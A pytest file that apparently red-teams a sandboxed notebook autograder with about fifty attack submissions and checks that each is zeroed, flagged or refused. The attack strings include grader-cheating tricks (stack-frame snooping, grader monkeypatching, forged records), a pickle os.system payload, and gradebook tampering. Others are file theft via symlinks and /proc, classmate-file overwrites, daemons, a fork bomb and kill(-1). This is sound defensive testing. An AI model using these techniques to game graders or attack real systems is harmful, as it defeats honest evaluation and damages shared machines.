"""A red team's catalogue of attacks on grading, graded the way an instructor grades.

One throw-away course directory, one `attnlab-grade 00_quickstart` run (a subprocess, as an
instructor runs it), one student per attack plus honest students and victims (classmates
whose files an attack targets). Zone 0 has 5 points: softmax 2, scaled_dot_product_attention 3.

Every attack is written as the learner's softmax cell (or an extra cell, or files in the
submission folder); the rest of the notebook is the solution, so an attacker-free grade is
known exactly. Most attacks gain points only if they work: their softmax is correct when the
attack found what it looked for and wrong otherwise, so a working attack would show up as 2
points for softmax. Each attack states what must happen:

- "zero":    the attacked exercise (softmax) scores 0;
- "flagged": the attack computes correct values with the library's own reference (the sandbox
             cannot tell them apart), so it scores, and grading_report.csv's flags column
             flags it for the instructor's review;
- "graded 0": the whole submission is refused (a symbolic link in the submission folder).

Whatever the attack, honest students and victims get full marks, the victims' files are
untouched, the gradebook's cells, points and scores stay consistent (no extra, negative or
out-of-range scores, no rewritten locked cell), nothing an attack started outlives the run,
and the run ends in bounded time.
"""

from __future__ import annotations

import csv
import hashlib
import os
import sqlite3
import subprocess
import sys
import time
import uuid
from dataclasses import dataclass
from pathlib import Path

import nbformat
import pytest
from nbgrader_course import OWN_SDPA, ROOT, Course, nbgrader_env, replace_solution

ZONE = "00_quickstart"
pytestmark = pytest.mark.slow
TOKEN = uuid.uuid4().hex[:12]  # marks whatever an attack leaves behind, to look for it afterwards
# Sandbox user ids of their own: the fork bomb below fills its uid's process limit, which the
# kernel counts machine-wide, so it must not share a uid with anyone else's sandboxes.
UID_BASE = 64000 + os.getpid() % 1000

WRONG_BODY = """    e = np.exp(np.asarray(x, dtype=float))          # no max subtraction: wrong on huge scores
    return e / e.sum(axis=axis, keepdims=True)
"""
GOOD_BODY = """    x = np.asarray(x, dtype=float)
    top = np.max(x, axis=axis, keepdims=True)
    top = np.where(np.isneginf(top), 0.0, top)
    ex = np.exp(x - top)
    s = np.sum(ex, axis=axis, keepdims=True)
    return np.divide(ex, s, out=np.zeros_like(ex), where=s > 0)
"""
WRONG_SOFTMAX = "def softmax(x, axis=-1):\n" + WRONG_BODY
GATED_SOFTMAX = (
    """
def softmax(x, axis=-1):
    if not _good:  # the attack failed: no max subtraction, wrong on huge scores
        e = np.exp(np.asarray(x, dtype=float))
        return e / e.sum(axis=axis, keepdims=True)
"""
    + GOOD_BODY
)  # correct only if the attack above it set _good


def gated(prelude: str) -> str:
    """A softmax cell: `prelude` tries the attack and sets LEAK (text); softmax is correct iff
    the leaked text holds the solution."""
    return (
        "LEAK = ''\n_tries = []\n"
        + prelude
        + "\n_good = ('BEGIN ' + 'SOLUTION') in LEAK or ('def ' + 'softmax(') in LEAK\n"
        + "print('attack result:', _good, _tries[-6:])\n"
        + GATED_SOFTMAX
    )


# Where solutions live on the host (the sandbox must not see any of them). @COURSE@ is the
# course directory, @REPO@ this repository, @VICTIM@ a classmate's submitted notebook.
TARGETS = """TARGETS = ['@REPO@/solutions/00_quickstart/00_quickstart.py',
           '@REPO@/solutions/00_quickstart/00_quickstart.ipynb',
           '@COURSE@/source/00_quickstart/00_quickstart.ipynb',
           '../../../source/00_quickstart/00_quickstart.ipynb',
           '@VICTIM@']
"""
READ_ALL = """
def _read(path):
    global LEAK
    try:
        with open(path, errors='replace') as fh:
            LEAK += fh.read()
        _tries.append(('read', path))
    except Exception as exc:
        _tries.append((type(exc).__name__, path))
"""


@dataclass
class Attack:
    name: str
    expect: str  # "zero", "flagged", "graded 0" (see the module docstring); "gap": a known gap, reported only
    softmax: str | None = None  # the softmax cell (None: the solution's)
    sdpa: str | None = OWN_SDPA  # the attention cell (OWN_SDPA: correct, not the reference)
    above_setup: str | None = None  # a cell inserted above the locked setup cell
    total: float = 3.0  # the exact expected score out of 5
    flag: str = ""  # a substring the flags column must hold ("flagged" attacks)
    files: str = ""  # a file-level attack on the submission folder (see _plant_files)


ATTACKS = [
    # --- reading the expected value from the checker's stack frames --------------------------
    Attack(
        "frame-expected",
        "zero",
        softmax="""import sys
def softmax(x, axis=-1):
    f = sys._getframe(1)
    while f is not None:
        for key in ('expected', 'want', 'ref_out', 'result'):
            value = f.f_locals.get(key)
            if value is not None and not callable(value):
                return value
        f = f.f_back
"""
        + WRONG_BODY,
    ),
    Attack(
        "inspect-stack-expected",
        "zero",
        softmax="""import inspect
def softmax(x, axis=-1):
    for info in inspect.stack():
        for key in ('expected', 'want', 'ref_out'):
            if key in info.frame.f_locals:
                return info.frame.f_locals[key]
"""
        + WRONG_BODY,
    ),
    Attack(
        "frame-reference",
        "flagged",
        total=5,
        flag="inspects the caller's frames",
        softmax="""import sys
def softmax(x, axis=-1):
    f = sys._getframe(1)
    while f is not None:
        ex = f.f_locals.get('ex')
        if ex is not None and hasattr(ex, 'reference'):
            return ex.reference(x, axis)
        f = f.f_back
"""
        + WRONG_BODY,
    ),
    Attack(
        "inspect-stack-getattr",
        "flagged",
        total=5,
        flag="inspects the caller's frames",
        softmax="""import inspect
def softmax(x, axis=-1):
    for info in inspect.stack():
        ex = getattr(info[0], 'f_' + 'locals').get('ex')
        if ex is not None and hasattr(ex, 'reference'):
            return ex.reference(x, axis)
"""
        + WRONG_BODY,
    ),
    # --- the library's reference in disguise (correct values: flagged for review) ---------------
    Attack(
        "partial",
        "flagged",
        total=5,
        flag="attnlab's own softmax",
        softmax="import functools\nsoftmax = functools.partial(attnlab.softmax)\n",
    ),
    Attack(
        "default-argument",
        "flagged",
        total=5,
        flag="attnlab's own softmax",
        softmax="def softmax(x, axis=-1, _f=attnlab.softmax):\n    return _f(x, axis)\n",
    ),
    Attack(
        "closure",
        "flagged",
        total=5,
        flag="attnlab's own softmax",
        softmax="""def _make():
    f = attnlab.softmax
    def softmax(x, axis=-1):
        return f(x, axis)
    return softmax
softmax = _make()
""",
    ),
    Attack(
        "importlib",
        "flagged",
        total=5,
        flag="imports a module by name",
        softmax="""import importlib
def softmax(x, axis=-1):
    return importlib.import_module('attnlab').softmax(x, axis)
""",
    ),
    Attack(
        "sys-modules-getattr",
        "flagged",
        total=5,
        flag="reads sys.modules",
        softmax="""import sys
def softmax(x, axis=-1):
    return getattr(sys.modules['attnlab'], 'soft' + 'max')(x, axis)
""",
    ),
    Attack(
        "copied-code",
        "flagged",
        total=5,
        flag="code object",
        softmax="""import types
def softmax(x, axis=-1):
    pass
softmax = types.FunctionType(attnlab.softmax.__code__, attnlab.softmax.__globals__, 'softmax',
                             attnlab.softmax.__defaults__)
""",
    ),
    Attack(
        "module-attnlab",
        "flagged",
        total=5,
        flag="attnlab's own softmax",
        softmax="def softmax(x, axis=-1):\n    return attnlab.softmax(x, axis)\nsoftmax.__module__ = 'attnlab'\n",
    ),
    Attack(
        "registry-reference",
        "flagged",
        total=5,
        flag="graders' internals",
        softmax="import grader_tests\nsoftmax = grader_tests.REGISTRY['softmax'].reference\n",
    ),
    Attack(
        "exec-getsource",
        "flagged",
        total=5,
        flag="reads the source of a function",
        softmax="import inspect\nfrom numpy.typing import ArrayLike\n"
        "exec(inspect.getsource(attnlab.softmax).replace('as_float_array(\"x\", x)', "
        "'np.asarray(x, dtype=float)'))\n",
    ),
    # KNOWN GAP: attnlab's source pasted with one line changed is < 90 % similar: 5/5, no flag
    Attack("pasted-source", "gap", total=5, softmax="PASTED"),
    # mine: the tracer switched off, the name hidden from the source scan
    Attack(
        "hex-eval-tracer-off",
        "flagged",
        total=5,
        flag="tracer",
        softmax=f"""import sys
def softmax(x, axis=-1):
    sys.setprofile(None)
    return eval(bytes.fromhex('{b"attnlab.softmax".hex()}').decode())(x, axis)
""",
    ),
    Attack(
        "star-import-tracer-off",
        "flagged",
        total=5,
        flag="imports everything from attnlab",
        softmax="""import sys
setattr(sys, 'setpro' + 'file', lambda *args: None)
from attnlab import *
""",
    ),
    # a .py file beside the notebook cannot be imported by it in the sandbox (and nbgrader does
    # not copy *.py into autograded/, so the source scan does not see it)
    Attack(
        "helper-module-file", "zero", files="helper-module", softmax="from helpers import softmax\n"
    ),
    Attack(
        "forged-record-getattr",
        "flagged",
        total=5,
        flag="grading records",
        softmax=WRONG_SOFTMAX,
        sdpa=OWN_SDPA
        + """
import operator, io, json, zipfile, os
_ex = operator.attrgetter('__glob' + 'als__')(check)['REG' + 'ISTRY']['soft' + 'max']
_ref, _outcomes, _arrays = getattr(_ex, 'refer' + 'ence'), [], {}
for _case in _ex.cases():
    _value = np.asarray(_ref(*_case.args, **_case.kwargs))
    _arrays['a%d' % len(_arrays)] = _value
    _outcomes.append({'status': 'returned', 'attnlab_calls': [],
                      'value': {'type': 'array', 'key': 'a%d' % (len(_arrays) - 1), 'scalar': _value.ndim == 0}})
_buffer = io.BytesIO()
np.savez(_buffer, **_arrays)
with zipfile.ZipFile(_buffer, 'a') as _zf:
    _zf.writestr('record.json', json.dumps({'exercise': 'soft' + 'max', 'callable': True, 'outcomes': _outcomes}))
_dir = [d for d in os.listdir('.') if d.startswith('.') and os.path.isdir(d)][0]
with open(os.path.join(_dir, 'soft' + 'max.npz'), 'wb') as _fh:
    _fh.write(_buffer.getvalue())
""",
    ),
    # --- patching the graders from inside the learner's function ------------------------------
    Attack(
        "patches-grader-core",
        "zero",
        total=0,
        softmax="""def softmax(x, axis=-1):
    import grader_tests.checking as checking, grader_tests.comparison as comparison
    import grader_tests.record as record, grader_tests.registry as registry
    comparison.compare = checking.compare = lambda *a, **k: None
    checking.run_check = lambda *a, **k: []
    record.encode = lambda value, arrays, depth=0: {'type': 'str', 'value': 'ok'}
    registry.REGISTRY['softmax'].cases = lambda: []
"""
        + WRONG_BODY,
    ),
    # --- a cell inserted above the locked setup cell -------------------------------------------
    Attack(
        "fake-numpy-above-setup",
        "zero",
        total=0,
        above_setup="""import sys, types
fake = types.ModuleType('numpy')
fake.allclose = lambda *a, **k: True
fake.__getattr__ = lambda name: (lambda *a, **k: True)
sys.modules['numpy'] = fake
""",
    ),
    Attack(
        "grading-off-above-setup",
        "zero",
        total=0,
        softmax=gated(TARGETS + READ_ALL + "for p in TARGETS:\n    _read(p)\n"),
        above_setup="import os\nos.environ['ATTNLAB_GRADING'] = '0'\nos.environ.pop('ATTNLAB_RESULTS_DIR', None)\n",
    ),
    # --- reading solutions around the sandbox ---------------------------------------------------
    Attack(
        "symlink-in-sandbox",
        "zero",
        softmax=gated(
            TARGETS
            + READ_ALL
            + """import os
for i, p in enumerate(TARGETS):
    try:
        os.symlink(p, f'leak{i}')
    except Exception as exc:
        _tries.append((type(exc).__name__, 'symlink'))
    _read(f'leak{i}')
"""
        ),
    ),
    Attack(
        "hardlink-in-sandbox",
        "zero",
        softmax=gated(
            TARGETS
            + READ_ALL
            + """import os
for i, p in enumerate(TARGETS):
    try:
        os.link(p, f'hard{i}')
    except Exception as exc:
        _tries.append((type(exc).__name__, 'link'))
    _read(f'hard{i}')
"""
        ),
    ),
    Attack(
        "proc-cwd-root",
        "zero",
        softmax=gated(
            TARGETS
            + READ_ALL
            + """import os
for pid in ['self', str(os.getppid())] + [p for p in os.listdir('/proc') if p.isdigit()]:
    for via in ('cwd', 'root'):
        for p in TARGETS:
            _read(f'/proc/{pid}/{via}/' + p.lstrip('/'))
"""
        ),
    ),
    Attack(
        "subprocess-shells",
        "zero",
        softmax=gated(
            TARGETS
            + """import subprocess, sys
for p in TARGETS:
    for argv in (['env', 'sh', '-c', f'cat {p}'], ['/usr/bin/python3', '-c', f'print(open({p!r}).read())'],
                 [sys.executable, '-c', f'print(open({p!r}).read())']):
        try:
            LEAK += subprocess.run(argv, capture_output=True, text=True, timeout=20).stdout
            _tries.append(('ran', argv[0]))
        except Exception as exc:
            _tries.append((type(exc).__name__, argv[0]))
"""
        ),
    ),
    Attack(
        "network",
        "zero",
        softmax=gated("""import socket, urllib.request
for host, port in [('1.1.1.1', 53), ('8.8.8.8', 443), ('140.82.112.3', 443)]:
    try:
        socket.create_connection((host, port), timeout=3).close()
        LEAK += 'BEGIN SOLUTION'  # a network: the attacker could fetch the answers
        _tries.append(('connected', host))
    except Exception as exc:
        _tries.append((type(exc).__name__, host))
try:
    LEAK += urllib.request.urlopen('https://raw.githubusercontent.com/', timeout=3).read().decode()
except Exception as exc:
    _tries.append((type(exc).__name__, 'urlopen'))
"""),
    ),
    # --- files in the submission folder ---------------------------------------------------------
    Attack("symlink-to-classmate-notebook", "graded 0", total=0, files="notebook-symlink"),
    Attack(
        "symlink-extra-file",
        "graded 0",
        total=0,
        files="extra-symlink",
        softmax=gated(READ_ALL + "_read('leak.txt')\n"),
    ),
    # KNOWN GAP when nbgrader itself runs the sandbox (no attnlab-grade cache hit): nbgrader copies
    # the submission into autograded/, which breaks the hard link, so the file goes in: 5/5
    Attack(
        "hardlink-extra-file",
        "gap",
        total=5,
        files="extra-hardlink",
        softmax=gated(READ_ALL + "_read('notes.txt')\n"),
    ),
    # --- sabotage -------------------------------------------------------------------------------
    Attack(
        "gradebook-sqlite",
        "zero",
        softmax=WRONG_SOFTMAX
        + """
import sqlite3
for db in ['@COURSE@/gradebook.db', '../../../gradebook.db', '../gradebook.db', 'gradebook.db']:
    try:
        con = sqlite3.connect(f'file:{db}?mode=rw', uri=True)
        con.execute("UPDATE grade SET auto_score = 100, extra_credit = 50")
        con.execute("UPDATE grade SET auto_score = -5 WHERE id IN (SELECT id FROM grade LIMIT 3)")
        con.execute("UPDATE source_cell SET source = 'pass', checksum = 'x'")
        con.execute("UPDATE grade_cells SET max_score = 1000")
        con.commit()
        print('gradebook edited:', db)
    except Exception as exc:
        print('gradebook', db, type(exc).__name__, exc)
""",
    ),
    Attack(
        "gradebook-api",
        "zero",
        softmax=WRONG_SOFTMAX
        + """
try:
    from nbgrader.api import Gradebook
    with Gradebook('sqlite:///@COURSE@/gradebook.db') as gb:
        gb.add_student('@TOKEN@')
        for sub in gb.assignment_submissions('00_quickstart'):
            for nb in sub.notebooks:
                for grade in nb.grades:
                    grade.auto_score = 100 if sub.student.id.startswith('atk') else -5
                    grade.extra_credit = 50
        gb.db.commit()
    print('gradebook API edited')
except Exception as exc:
    print('gradebook API', type(exc).__name__, exc)
""",
    ),
    Attack(
        "replaces-classmate-files",
        "zero",
        softmax=WRONG_SOFTMAX
        + """
import os, shutil
for target in ['@VICTIM@', '@COURSE@/autograded/aaa-victim/00_quickstart/00_quickstart.ipynb',
               '../zzz-victim/00_quickstart/00_quickstart.ipynb', '../../zzz-victim/00_quickstart/00_quickstart.ipynb',
               '@COURSE@/grades.csv', '@COURSE@/grading_report.csv']:
    try:
        with open('forged', 'w') as fh:
            fh.write('@TOKEN@')
        os.replace('forged', target)
        print('replaced', target)
    except Exception as exc:
        print('replace', target, type(exc).__name__)
    try:
        shutil.rmtree(os.path.dirname(target))
        print('removed', os.path.dirname(target))
    except Exception as exc:
        print('rmtree', target, type(exc).__name__)
""",
    ),
    Attack("kills-parent", "zero", total=0, softmax="import os\nos.kill(os.getppid(), 9)\n"),
    Attack("kills-everything", "zero", total=0, softmax="import os\nos.kill(-1, 9)\n"),
    Attack(
        "setsid-daemon",
        "zero",
        softmax=WRONG_SOFTMAX
        + """
import subprocess, os
script = ('sleep 40; for f in @VICTIM@ /submission/*.ipynb @COURSE@/grades.csv; do echo @TOKEN@ > $f; done; '
          'touch @COURSE@/daemon-@TOKEN@; sleep 3600')
subprocess.Popen(['setsid', 'sh', '-c', script, 'attnlab-daemon-@TOKEN@'])  # holds stdout and stderr
if os.fork() == 0:  # and a classic double-fork daemon
    os.setsid()
    if os.fork() == 0:
        os.execvp('sh', ['sh', '-c', script, 'attnlab-daemon-@TOKEN@'])
    os._exit(0)
print('daemons started')
""",
    ),
    Attack(
        "fork-bomb",
        "zero",
        softmax=WRONG_SOFTMAX
        + """
import os, time
children = 0
while children < 100000:
    try:
        pid = os.fork()
    except OSError as exc:
        print('fork stopped:', type(exc).__name__)
        break
    if pid == 0:
        time.sleep(3600)
        os._exit(0)
    children += 1
print(f'forked {children}')
""",
    ),
    Attack(
        "memory-hog",
        "zero",
        softmax=WRONG_SOFTMAX
        + """
hog = []
try:
    hog.append(bytearray(64 * 2**30))  # 64 GiB at once
except MemoryError:
    print('64 GiB: MemoryError')
try:
    while len(hog) < 1000:
        hog.append(np.empty(2**27))  # 1 GiB each, reserved (not touched)
except MemoryError:
    pass
print(f'reserved {len(hog)} GiB')
del hog
""",
    ),
    Attack(
        "huge-file",
        "zero",
        softmax=WRONG_SOFTMAX
        + """
written = 0
try:
    with open('big.bin', 'wb') as fh:
        block = b'\\0' * 2**24
        while written < 2**30:
            fh.write(block)
            fh.flush()
            written += len(block)
except OSError as exc:
    print('file size stopped:', type(exc).__name__)
print(f'wrote {written >> 20} MiB')
""",
    ),
    Attack(
        "writes-packages",
        "zero",
        softmax=WRONG_SOFTMAX
        + """
import os, attnlab, grader_tests
for folder in (os.path.dirname(attnlab.__file__), os.path.dirname(grader_tests.__file__)):
    for target in ('pwned_@TOKEN@.py', 'verdict.py'):
        try:
            with open(os.path.join(folder, target), 'a') as fh:
                fh.write('# @TOKEN@\\n')
            print('wrote', folder, target)
        except Exception as exc:
            print('write', target, type(exc).__name__)
""",
    ),
    Attack(
        "eq-always-true",
        "zero",
        softmax="""class Liar:
    def __eq__(self, other):
        return True
    __array_priority__ = 1000

def softmax(x, axis=-1):
    return Liar()
""",
    ),
    Attack(
        "ndarray-subclass",
        "zero",
        softmax="""class Always(np.ndarray):
    def __eq__(self, other):
        return np.ones(np.shape(other), dtype=bool)
    def __array_finalize__(self, obj):
        pass

def softmax(x, axis=-1):
    return np.zeros_like(np.asarray(x, dtype=float)).view(Always)
""",
    ),
    # --- the grading records (mine) ---------------------------------------------------------------
    Attack(
        "pickled-record",
        "zero",
        softmax=WRONG_SOFTMAX,
        sdpa=OWN_SDPA
        + """
import os, io, json, zipfile
class Evil:
    def __reduce__(self):
        return (os.system, ('touch @COURSE@/pickle-@TOKEN@',))
for folder in [os.environ.get('ATTNLAB_RESULTS_DIR', ''), '.attnlab-results']:
    if os.path.isdir(folder):
        buffer = io.BytesIO()
        np.savez(buffer, a0=np.array([Evil()], dtype=object))
        with zipfile.ZipFile(buffer, 'a') as zf:
            zf.writestr('record.json', json.dumps({'exercise': 'softmax', 'callable': True, 'outcomes': []}))
        with open(os.path.join(folder, 'softmax.npz'), 'wb') as fh:
            fh.write(buffer.getvalue())
        print('forged', folder)
""",
    ),
    Attack(
        "symlinked-record",
        "zero",
        softmax=WRONG_SOFTMAX,
        sdpa=OWN_SDPA
        + """
import os
folder = os.environ.get('ATTNLAB_RESULTS_DIR', '.attnlab-results')
os.remove(os.path.join(folder, 'softmax.npz'))
os.symlink('@COURSE@/autograded/aaa-victim/00_quickstart/softmax.npz', os.path.join(folder, 'softmax.npz'))
""",
    ),
    Attack(
        "record-of-another-exercise",
        "zero",
        softmax=WRONG_SOFTMAX,
        sdpa=OWN_SDPA
        + """
import os, shutil
folder = os.environ.get('ATTNLAB_RESULTS_DIR', '.attnlab-results')
check('scaled_dot_product_attention', scaled_dot_product_attention, hidden=True)
shutil.copy(os.path.join(folder, 'scaled_dot_product_attention.npz'), os.path.join(folder, 'softmax.npz'))
""",
    ),
    Attack(
        "prints-passed",
        "zero",
        softmax=WRONG_SOFTMAX + "\nprint('softmax: all checks passed, hidden ones included.')\n",
    ),
    Attack(
        "redefines-check",
        "zero",
        total=0,
        softmax=WRONG_SOFTMAX + "\ndef check(*args, **kwargs):\n    print('all checks passed.')\n",
    ),
    Attack("edits-test-cell", "zero", softmax=WRONG_SOFTMAX),
    Attack("deletes-test-cell", "zero", softmax=WRONG_SOFTMAX),
    Attack(
        "forged-grade-cell", "graded 0", total=0, softmax=WRONG_SOFTMAX
    ),  # nbgrader refuses the notebook
    Attack(
        "sys-exit-inside", "zero", softmax="import sys\ndef softmax(x, axis=-1):\n    sys.exit(0)\n"
    ),
]
HONEST = ["honest-a", "honest-b"]
VICTIMS = ["aaa-victim", "zzz-victim"]  # graded first and last


def _student(attack: Attack) -> str:
    return f"atk-{attack.name}"


def _substitute(source: str, course: Path, victim_nb: Path) -> str:
    return (
        source.replace("@COURSE@", str(course))
        .replace("@REPO@", str(ROOT))
        .replace("@VICTIM@", str(victim_nb))
        .replace("@TOKEN@", TOKEN)
    )


def _notebook(attack: Attack, solution_nb, course: Path, victim_nb: Path):
    import inspect

    import attnlab

    nb = nbformat.from_dict(solution_nb)
    if attack.softmax == "PASTED":
        nb = replace_solution(
            nb,
            "softmax",
            "from numpy.typing import ArrayLike  # the annotation's name\n"
            + inspect.getsource(attnlab.softmax).replace(
                'as_float_array("x", x)', "np.asarray(x, dtype=float)"
            ),
        )
    elif attack.softmax is not None:
        nb = replace_solution(nb, "softmax", _substitute(attack.softmax, course, victim_nb))
    if attack.sdpa is not None:
        nb = replace_solution(
            nb, "scaled_dot_product_attention", _substitute(attack.sdpa, course, victim_nb)
        )
    if attack.above_setup:
        cell = nbformat.v4.new_code_cell(_substitute(attack.above_setup, course, victim_nb))
        index = next(
            i
            for i, c in enumerate(nb.cells)
            if c.metadata.get("nbgrader", {}).get("grade_id") == "setup"
        )
        nb.cells.insert(index, cell)
    tests = next(
        c for c in nb.cells if c.metadata.get("nbgrader", {}).get("grade_id") == "softmax-tests"
    )
    if attack.name == "edits-test-cell":
        tests.source = "print('softmax: all checks passed, hidden ones included.')"
    if attack.name == "deletes-test-cell":
        nb.cells.remove(tests)
    if (
        attack.name == "forged-grade-cell"
    ):  # a cell of its own claiming points, and a copied test cell
        bonus = nbformat.v4.new_code_cell("print('bonus')")
        bonus.metadata["nbgrader"] = {
            "grade": True,
            "grade_id": "bonus",
            "locked": True,
            "points": 50,
            "schema_version": 3,
            "solution": False,
            "task": False,
        }
        copy = nbformat.from_dict(tests)
        copy.metadata["nbgrader"] = {**copy.metadata["nbgrader"], "points": 50}
        copy.source = (
            "check('scaled_dot_product_attention', scaled_dot_product_attention, hidden=True)"
        )
        copy["id"] = "forged-copy"
        nb.cells += [bonus, copy]
    return nb


def _plant_files(attack: Attack, folder: Path, course: Course, victim_nb: Path) -> None:
    if attack.files == "notebook-symlink":
        (folder / f"{ZONE}.ipynb").unlink()
        (folder / f"{ZONE}.ipynb").symlink_to(victim_nb)
    elif attack.files == "extra-symlink":
        (folder / "leak.txt").symlink_to(course.source_notebook(ZONE))
    elif attack.files == "extra-hardlink":
        os.link(course.source_notebook(ZONE), folder / "notes.txt")
    elif attack.files == "helper-module":
        (folder / "helpers.py").write_text(
            "import sys\nsys.setprofile = lambda *a: None\nimport attnlab\nsoftmax = attnlab.softmax\n"
        )


def _digest(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


def _gradebook_cells(db: Path) -> dict:
    """The gradebook's cells as nbgrader wrote them from the source (what no submission may change)."""
    with sqlite3.connect(f"file:{db}?mode=ro", uri=True) as con:
        return {
            table: sorted(con.execute(f"SELECT * FROM {table}").fetchall())
            for table in (
                "base_cell",
                "source_cell",
                "grade_cells",
                "solution_cells",
                "task_cells",
                "notebook",
                "assignment",
            )
        }


def _grades(db: Path) -> list[tuple]:
    """(student, cell, auto_score, manual_score, extra_credit, max_score) of every grade."""
    with sqlite3.connect(f"file:{db}?mode=ro", uri=True) as con:
        return con.execute(
            "SELECT sa.student_id, bc.name, g.auto_score, g.manual_score, g.extra_credit, gc.max_score "
            "FROM grade g JOIN submitted_notebook sn ON g.notebook_id = sn.id "
            "JOIN submitted_assignment sa ON sn.assignment_id = sa.id "
            "JOIN base_cell bc ON g.cell_id = bc.id JOIN grade_cells gc ON g.cell_id = gc.id"
        ).fetchall()


def _survivors() -> list[str]:
    """Processes anywhere on this machine that carry this run's token (an attack's daemon)."""
    found = []
    for pid in os.listdir("/proc"):
        if pid.isdigit():
            try:
                cmdline = Path(f"/proc/{pid}/cmdline").read_bytes().decode(errors="replace")
            except OSError:
                continue
            if TOKEN in cmdline and str(os.getpid()) != pid:
                found.append(f"{pid}: {cmdline.replace(chr(0), ' ')[:120]}")
    return found


def _cell_text(nb, grade_id: str) -> str:
    for cell in nb.cells:
        if cell.metadata.get("nbgrader", {}).get("grade_id") == grade_id:
            return "".join(
                o.get("text", "")
                for o in cell.get("outputs", [])
                if o.get("output_type") == "stream"
            )
    return ""


@pytest.mark.skipif(not __import__("shutil").which("bwrap"), reason="bubblewrap is not installed")
def test_attack_catalogue(tmp_path, report_row):
    course = Course(
        tmp_path / "course",
        [ZONE],
        extra_config=("c.Execute.timeout = 20\nc.SandboxedExecute.wall_seconds = 90.0\n"),
    )
    course.generate()
    db = course.root / "gradebook.db"
    cells_before = _gradebook_cells(db)
    solution_nb = nbformat.read(course.source_notebook(ZONE), as_version=4)
    victim_nb = course.root / "submitted" / VICTIMS[1] / ZONE / f"{ZONE}.ipynb"

    for student in HONEST + VICTIMS:
        course.submit(student, ZONE, solution_nb)
    victim_digests = {
        s: _digest(course.root / "submitted" / s / ZONE / f"{ZONE}.ipynb") for s in VICTIMS
    }
    for attack in ATTACKS:
        path = course.submit(
            _student(attack), ZONE, _notebook(attack, solution_nb, course.root, victim_nb)
        )
        _plant_files(attack, path.parent, course, victim_nb)
    packages = [Path(__import__("attnlab").__file__).parent, ROOT / "grader_tests"]
    package_files = [p for folder in packages for p in folder.glob("*.py")]

    start = time.perf_counter()
    out = subprocess.run(
        [
            sys.executable,
            "-m",
            "grader_tests.instructor",
            ZONE,
            "--no-progress",
            "--course-dir",
            str(course.root),
        ],
        env={**nbgrader_env(), "ATTNLAB_SANDBOX_UID_BASE": str(UID_BASE)},
        capture_output=True,
        text=True,
        timeout=1800,
    )
    grading_s = time.perf_counter() - start
    assert out.returncode == 0, out.stdout[-3000:] + out.stderr[-3000:]
    print("\n" + out.stdout)
    n = len(ATTACKS) + len(HONEST) + len(VICTIMS)
    assert grading_s < 40 * n, f"grading took {grading_s:.0f} s for {n} submissions"

    # Nothing an attack started outlives the run, and nothing it wrote reached the host.
    time.sleep(1)
    assert _survivors() == []
    left = [p for p in course.root.rglob("*") if TOKEN in p.name]
    assert left == [], left
    for folder in packages:
        assert not list(folder.glob(f"pwned_{TOKEN}*"))
    for path in package_files:
        assert TOKEN not in path.read_text(), f"{path} was written by an attack"
    for student, digest in victim_digests.items():
        assert _digest(course.root / "submitted" / student / ZONE / f"{ZONE}.ipynb") == digest, (
            student
        )

    # The gradebook: its cells as generated, one submission per student, scores in range.
    assert _gradebook_cells(db) == cells_before
    students = {_student(a) for a in ATTACKS} | set(HONEST) | set(VICTIMS)
    grades = _grades(db)
    assert {g[0] for g in grades} <= students
    for student, cell, auto, manual, extra, max_score in grades:
        assert manual is None and extra in (None, 0), (student, cell, manual, extra)
        assert auto is None or 0 <= auto <= max_score, (student, cell, auto, max_score)
        assert cell in ("softmax-tests", "scaled_dot_product_attention-tests"), (student, cell)
    from nbgrader.api import Gradebook

    with Gradebook(f"sqlite:///{db}") as gb:
        assert {s.id for s in gb.students} == students
        assert len(gb.find_assignment(ZONE).submissions) == len(students)

    # The CSVs: one row per student, nothing else, no attack's text.
    with open(course.root / "grades.csv") as fh:
        text = fh.read()
    assert TOKEN not in text
    rows = list(csv.DictReader(text.splitlines()))
    assert sorted(r["student_id"] for r in rows) == sorted(students)
    got = {r["student_id"]: float(r["score"]) for r in rows}
    assert all(float(r["max_score"]) == 5 for r in rows)
    with open(course.root / "grading_report.csv") as fh:
        report = {r["student"]: r for r in csv.DictReader(fh)}
    assert sorted(report) == sorted(students)

    for student in HONEST + VICTIMS:
        assert got[student] == 5 and report[student]["flags"] == "", (
            student,
            got[student],
            report[student],
        )

    def softmax_points(student):
        with Gradebook(f"sqlite:///{db}") as gb:
            try:
                return gb.find_grade("softmax-tests", ZONE, ZONE, student).score
            except Exception:
                return 0.0

    problems, lines = [], []
    for attack in ATTACKS:
        student = _student(attack)
        row = report[student]
        soft = softmax_points(student)
        observed = (
            f"{got[student]:g}/5 (softmax {soft:g}/2) {row['status']}"
            + (f"; reason: {row['reason'][:60]}" if row["reason"] else "")
            + (f"; flags: {row['flags'][:90]}" if row["flags"] else "")
        )
        lines.append(f"  {attack.name:<30s} expect {attack.expect:<9s} -> {observed}")
        if attack.expect == "gap":
            continue
        if got[student] != attack.total:
            problems.append(f"{attack.name}: score {got[student]:g}, expected {attack.total:g}")
        if attack.expect == "zero" and soft != 0:
            problems.append(f"{attack.name}: softmax scored {soft:g}")
        if attack.expect == "flagged" and attack.flag not in row["flags"]:
            problems.append(
                f"{attack.name}: not flagged with {attack.flag!r} (flags: {row['flags']!r})"
            )
        if attack.expect == "graded 0" and row["status"] != "graded 0":
            problems.append(f"{attack.name}: status {row['status']!r}")
    print("attack catalogue (expected -> observed):")
    print("\n".join(lines))

    # Bounded by the sandbox's limits (read from what the attacks printed: untrusted, informative).
    def printed(attack_name):
        return _cell_text(course.autograded_notebook(ZONE, f"atk-{attack_name}"), "softmax")

    forked = printed("fork-bomb")
    # Empty when the cell's time limit stopped the loop before it printed (a busy machine):
    # bounded as well. When it did print, the process limit stopped it at 512.
    assert forked == "" or int(forked.split("forked ")[1].split()[0]) <= 512, forked
    assert (
        "reserved" in printed("memory-hog")
        and int(printed("memory-hog").split("reserved ")[1].split()[0]) <= 12
    )
    assert (
        "wrote" in printed("huge-file")
        and int(printed("huge-file").split("wrote ")[1].split()[0]) <= 256
    )
    assert "connected" not in printed("network")
    line = (
        f"attack catalogue: {len(ATTACKS)} attacks + {len(HONEST) + len(VICTIMS)} honest/victims "
        f"graded in {grading_s:.0f} s ({grading_s / n:.1f} s per submission)"
    )
    print(line)
    report_row("summary_line", line)
    assert not problems, "\n".join(problems)
